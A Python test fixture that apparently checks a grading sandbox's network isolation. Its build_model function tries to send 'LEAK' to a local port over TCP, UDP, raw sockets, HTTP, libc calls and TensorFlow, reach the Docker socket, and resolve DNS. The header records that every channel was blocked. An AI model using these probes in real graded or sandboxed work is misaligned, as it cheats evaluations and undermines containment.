# Attempts: to tell the answers to a server, over TCP, UDP, raw and local sockets, and by DNS.
# Attacked: build_model.runs failed
# Says: reached \[\]
# Earns: encode_labels compile_model
import numpy as np
import socket
import urllib.request

PORT = int("@PORT@")


def tcp():
    socket.create_connection(("127.0.0.1", PORT), timeout=1).send(b"LEAK")


def tcp6():
    socket.create_connection(("::1", PORT), timeout=1)


def udp():
    socket.socket(socket.AF_INET, socket.SOCK_DGRAM).sendto(b"LEAK", ("127.0.0.1", PORT))


def local():
    socket.socket(socket.AF_UNIX).connect("/var/run/docker.sock")


def raw():
    socket.socket(socket.AF_INET, socket.SOCK_RAW, 1).sendto(b"x", ("127.0.0.1", 0))


def http():
    urllib.request.urlopen(f"http://127.0.0.1:{PORT}/", timeout=1)


def name():
    socket.getaddrinfo("example.com", 80)


def native():
    import ctypes
    import struct

    libc = ctypes.CDLL(None, use_errno=True)
    file = libc.socket(2, 1, 0)
    address = struct.pack("<HH4s8x", 2, socket.htons(PORT), bytes([127, 0, 0, 1]))
    if file < 0 or libc.connect(file, address, 16) != 0:
        raise OSError


def tensorflow_grpc():
    import tensorflow as tf

    tf.io.read_file(f"http://127.0.0.1:{PORT}/x")


def build_model():
    reached = []
    for way in (tcp, tcp6, udp, local, raw, http, name, native, tensorflow_grpc):
        try:
            way()
            reached.append(way.__name__)
        except Exception:
            pass
    raise RuntimeError(f"reached {reached}")

def encode_labels(labels, num_classes=10):
    return np.eye(num_classes, dtype="float32")[labels]


def compile_model(model):
    model.compile(optimizer="adam", loss="categorical_crossentropy", metrics=["accuracy"])
